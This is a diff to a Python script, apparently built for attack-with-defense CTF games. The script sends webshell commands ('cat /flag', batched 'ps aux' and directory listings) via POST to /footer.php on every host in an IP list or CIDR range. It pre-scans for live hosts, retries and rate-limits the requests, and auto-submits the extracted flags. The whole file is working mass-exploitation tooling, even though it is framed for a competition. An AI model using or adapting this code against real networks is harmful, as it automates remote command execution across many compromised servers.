@@ -1,55 +1,61 @@
 import os
-import ipaddress
+import sys
+import time
 import requests
+from urllib.parse import urlsplit
 from concurrent.futures import ThreadPoolExecutor, as_completed
-from typing import List, Dict, Tuple, Optional
+from typing import Iterator, Tuple, Optional
+
+# 添加上级目录到Python路径，以便导入共享的awdlib模块
+sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from awdlib.targets import iter_targets
+from awdlib.probe import iter_alive
+from awdlib.session import get_session
+from awdlib.batch import build_batch_command, split_batch_output, format_batch_output
+from awdlib.timeouts import AdaptiveTimeout
+from awdlib.stream import read_streamed
+from awdlib.ratelimit import configure_limiter, get_limiter
+from awdlib.retry import RetryPolicy, RetryBudget
+from awdlib.pipeline import FlagPipeline
+from awdlib.candidates import CandidateScorer
 
 # 配置参数
 IP_FILE = 'ip.txt'                  #ip存放位置
 OUTPUT_DIR = 'responses'            #响应存放位置
 POST_PATH = '/footer.php'           #POST路径
 POST_DATA = {'shell': 'cat /flag'}  #POST数据
+SHELL_PARAM = 'shell'               #webshell命令参数名，批量模式下替换该参数
+BATCH_COMMANDS = []                 #批量命令，非空时一次请求执行全部命令，例如 ['cat /flag', 'uptime', 'ls -la /var/www/html', 'ps aux']
 DEFAULT_PORT = 80                   #默认端口
-TIMEOUT = 5                         #超时时间
+TIMEOUT = 5                         #超时时间，没有耗时记录的目标使用该值
+TIMEOUT_MAX = 15                    #自适应超时上限，按每个目标最近耗时的p95计算，记录保存在 timeout_cache.json
 MAX_WORKERS = 10                    #最大线程数
+RATE_LIMIT = 2000                   #所有请求合计的速率上限 (次/秒)
+HOST_RATE_LIMIT = 50                #每个主机的速率上限 (次/秒)
+MAX_ATTEMPTS = 3                    #建立连接失败、429/503 时每个目标最多尝试的次数；命令已发出后不重试，避免重复执行
+RETRY_BUDGET = 100                  #本次运行所有目标合计最多重试的次数
+PROBE_ENABLED = True                #请求前先做TCP存活预筛
+PROBE_TIMEOUT = 0.8                 #存活预筛连接超时时间
+MAX_BODY_BYTES = 256 * 1024         #响应体最多读取的字节数，超出部分丢弃
+STOP_PATTERN = r'flag\{[^}\s]+\}'    #响应中匹配到flag后立即停止读取，设为 None 则读取完整响应 (批量模式下不生效)
+PIPELINE_MODE = False               #流水线模式: 响应直接在内存中提取flag并提交 (提交配置见 从响应中提取flag并提交.py)，不需要再运行提取脚本
+SAVE_RESPONSES = True               #流水线模式下是否仍把响应保存到 responses 目录
 
 # 确保输出目录存在
 os.makedirs(OUTPUT_DIR, exist_ok=True)
 
-def parse_ip_addresses(file_path: str) -> List[str]:
-    """从文件中解析IP地址，支持IP:端口、纯IP和CIDR格式"""
-    ip_addresses = []
-    try:
-        with open(file_path, 'r', encoding='utf-8') as f:
-            for line in f:
-                line = line.strip()
-                if not line or line.startswith('#'):
-                    continue
-                
-                # 处理CIDR格式
-                if '/' in line and not line.startswith('#'):
-                    try:
-                        network = ipaddress.ip_network(line, strict=False)
-                        for ip in network.hosts():
-                            ip_addresses.append(f"{ip}:{DEFAULT_PORT}")
-                    except ValueError:
-                        # 如果不是有效的CIDR，尝试作为普通IP处理
-                        if ':' in line:
-                            ip_addresses.append(line)
-                        else:
-                            ip_addresses.append(f"{line}:{DEFAULT_PORT}")
-                # 处理IP:端口格式
-                elif ':' in line:
-                    ip_addresses.append(line)
-                # 处理纯IP格式
-                else:
-                    ip_addresses.append(f"{line}:{DEFAULT_PORT}")
-    except FileNotFoundError:
-        print(f"错误: 找不到IP文件 {file_path}")
-    except Exception as e:
-        print(f"读取IP文件时出错: {e}")
-    
-    return ip_addresses
+# 每个目标的自适应超时，多个线程共享
+timeouts = AdaptiveTimeout(default=TIMEOUT, max_timeout=TIMEOUT_MAX)
+# 所有目标共用一个重试预算
+retry_policy = RetryPolicy(MAX_ATTEMPTS, budget=RetryBudget(RETRY_BUDGET), idempotent=False)
+
+def parse_ip_addresses(file_path: str) -> Iterator[str]:
+    """从文件中惰性展开IP地址，支持IP:端口、纯IP、CIDR、端口范围和多端口格式，开启预筛时只产出可连接的目标"""
+    targets = iter_targets(file_path, DEFAULT_PORT)
+    if PROBE_ENABLED:
+        targets = iter_alive(targets, timeout=PROBE_TIMEOUT)
+    for ip, port in targets:
+        yield f"{ip}:{port}"
 
 def send_post_request(ip_port: str) -> Tuple[str, Optional[str], Optional[int], Optional[str]]:
     """向目标发送POST请求并返回原始结果"""
@@ -57,12 +63,33 @@ def send_post_request(ip_port: str) -> Tuple[str, Optional[str], Optional[int],
         ip, port = ip_port.split(':')
         url = f"http://{ip}:{port}{POST_PATH}"
         
+        data = POST_DATA
+        marker = None
+        if BATCH_COMMANDS:
+            # 批量模式: 所有命令拼进一次请求，用随机标记分隔各条命令的输出
+            command, marker = build_batch_command(BATCH_COMMANDS)
+            data = dict(POST_DATA, **{SHELL_PARAM: command})
+        
         print(f"正在向 {url} 发送POST请求...")
-        response = requests.post(url, data=POST_DATA, timeout=TIMEOUT)
+        # 共享连接池会话，同一目标的重复请求复用连接
+        response = retry_policy.call(get_session(MAX_WORKERS).post, url, data=data,
+                                     timeout=timeouts.get(ip_port), stream=True)
+        timeouts.record(ip_port, response.elapsed.total_seconds())
+        # 流式读取响应体，超过上限截断，匹配到flag立即停止；批量模式需要完整输出，不提前停止
+        text, truncated = read_streamed(response, MAX_BODY_BYTES, None if marker else STOP_PATTERN)
+        if truncated:
+            print(f"{ip_port}: 响应已截断 ({len(text)} 字符)")
+        
+        if marker:
+            outputs = split_batch_output(text, marker, len(BATCH_COMMANDS))
+            # 一个标记都没找到说明命令没有执行，保留原始响应便于排查
+            if any(output is not None for output in outputs):
+                return ip_port, format_batch_output(BATCH_COMMANDS, outputs), response.status_code, None
         
         # 直接返回原始响应内容，不做任何处理
-        return ip_port, response.text, response.status_code, None
+        return ip_port, text, response.status_code, None
     except requests.exceptions.Timeout:
+        timeouts.record_timeout(ip_port)
         return ip_port, None, None, "连接超时"
     except requests.exceptions.ConnectionError:
         return ip_port, None, None, "连接被拒绝"
@@ -95,19 +122,65 @@ def save_response_to_file(ip_port: str, content: Optional[str], status_code: Opt
         print(f"保存文件时出错: {e}")
         return False
 
+def create_pipeline():
+    """
+    创建流水线: 响应在内存中提取flag后直接提交，保存响应文件作为可选的旁路输出
+    
+    返回值:
+        tuple: (FlagPipeline, CandidateScorer 或 None, FlagLedger 或 None)
+    """
+    # 流水线模式沿用提取脚本的flag模式和提交配置；只在流水线模式下导入，普通抓取不依赖提取脚本
+    from 从响应中提取flag并提交 import (FLAG_MATCHER, FLAG_UPLOAD_URL, FLAG_UPLOAD_RATE, UPLOAD_DEADLINE,
+                               CANDIDATE_FILE, ROUND_SECONDS, ROUND_START, FLAG_VALID_ROUNDS, MAX_TARGETS,
+                               MAX_ROUNDS, SUBMIT_WORKERS, open_ledger, create_submitter, submit_flags_once)
+    
+    # flag服务器单独限速，提交被限流或服务器出错时重试到截止时间
+    get_limiter().set_host_rate(urlsplit(FLAG_UPLOAD_URL).hostname, FLAG_UPLOAD_RATE, FLAG_UPLOAD_RATE)
+    submitter = create_submitter(time.time() + UPLOAD_DEADLINE)
+    scorer = (CandidateScorer(CANDIDATE_FILE, ROUND_SECONDS, MAX_TARGETS, MAX_ROUNDS, round_start=ROUND_START)
+              if CANDIDATE_FILE else None)
+    # 与提取脚本共用提交账本，两边同时运行也不会重复提交
+    ledger = open_ledger()
+    skipped = set()
+    
+    def accept(ip_port, flags):
+        # 流水线中看不到整轮的结果，同一轮出现在多个目标上的值只能在已达到阈值后跳过；
+        # 上一轮出现过的静态值在本轮一开始就会被跳过
+        scorer.observe(ip_port.replace(':', '_'), flags)
+        kept = []
+        for flag in flags:
+            reason = scorer.reason(flag)
+            if not reason:
+                kept.append(flag)
+            elif flag not in skipped:
+                skipped.add(flag)
+                print(f"[-] 跳过静态候选 {flag}: {reason}")
+        return kept
+    
+    def sink(ip_port, content, status_code):
+        return save_response_to_file(ip_port, content, status_code, None)
+    
+    pipeline = FlagPipeline(FLAG_MATCHER.findall, lambda items: submit_flags_once(items, submitter, ledger),
+                            sink if SAVE_RESPONSES else None, accept if scorer else None,
+                            submit_workers=SUBMIT_WORKERS, submit_batch_size=submitter.batch_size,
+                            round_seconds=ROUND_SECONDS, valid_rounds=FLAG_VALID_ROUNDS, round_start=ROUND_START)
+    return pipeline, scorer, ledger
+
 def main():
     """主函数"""
     print(f"开始处理POST请求...")
-    print(f"POST数据: {POST_DATA}")
+    if BATCH_COMMANDS:
+        print(f"批量命令 ({len(BATCH_COMMANDS)} 条，每个目标一次请求): {BATCH_COMMANDS}")
+    else:
+        print(f"POST数据: {POST_DATA}")
     print(f"目标路径: {POST_PATH}")
     
-    # 解析IP地址
-    ip_addresses = parse_ip_addresses(IP_FILE)
-    if not ip_addresses:
-        print("没有找到有效的IP地址")
-        return
+    configure_limiter(RATE_LIMIT, host_rate=HOST_RATE_LIMIT)
     
-    print(f"找到 {len(ip_addresses)} 个目标")
+    pipeline, scorer, ledger = create_pipeline() if PIPELINE_MODE else (None, None, None)
+    
+    # 惰性解析IP地址，边展开边提交
+    ip_addresses = parse_ip_addresses(IP_FILE)
     
     success_count = 0
     failure_count = 0
@@ -117,6 +190,14 @@ def main():
     with ThreadPoolExecutor(max_workers=MAX_WORKERS) as executor:
         # 提交所有任务
         future_to_ip = {executor.submit(send_post_request, ip): ip for ip in ip_addresses}
+        if not future_to_ip:
+            print("没有找到有效的IP地址")
+            if pipeline is not None:
+                pipeline.close()
+            if ledger is not None:
+                ledger.close()
+            return
+        print(f"找到 {len(future_to_ip)} 个目标")
         
         # 处理完成的任务
         for future in as_completed(future_to_ip):
@@ -129,12 +210,33 @@ def main():
                 print(f"{ip_port}: 成功 - 状态码 {status_code}")
                 success_count += 1
             
-            # 保存结果
-            if save_response_to_file(ip_port, content, status_code, error):
-                saved_count += 1
+            if pipeline is not None and not error:
+                # 流水线模式: 响应直接送去提取和提交，保存文件由流水线在旁路完成
+                pipeline.feed(ip_port, content, status_code)
+            elif pipeline is None or SAVE_RESPONSES:
+                # 保存结果
+                if save_response_to_file(ip_port, content, status_code, error):
+                    saved_count += 1
+    
+    timeouts.save()
+    
+    if pipeline is not None:
+        stats = pipeline.close()
+        saved_count += stats['saved']
+        if scorer is not None:
+            scorer.save()
+        if ledger is not None:
+            ledger.close()
+        print("\n=== 流水线摘要 ===")
+        print(f"提取的响应数: {stats['bodies']}")
+        print(f"提交的flag数: {stats['submitted']} (成功 {stats['success']}, 失败 {stats['fail']}, 已提交过 {stats['skipped']}, 已过期 {stats['expired']})")
+        if stats['verdicts']:
+            print("服务器判定: " + ", ".join(f"{verdict} {count}" for verdict, count in sorted(stats['verdicts'].items())))
+        if 'latency_p50' in stats:
+            print(f"获取到提交耗时: p50 {stats['latency_p50'] * 1000:.1f}ms, 最大 {stats['latency_max'] * 1000:.1f}ms")
     
     print("\n=== 执行摘要 ===")
-    print(f"总目标数: {len(ip_addresses)}")
+    print(f"总目标数: {len(future_to_ip)}")
     print(f"成功: {success_count}")
     print(f"失败: {failure_count}")
     print(f"保存文件数: {saved_count}")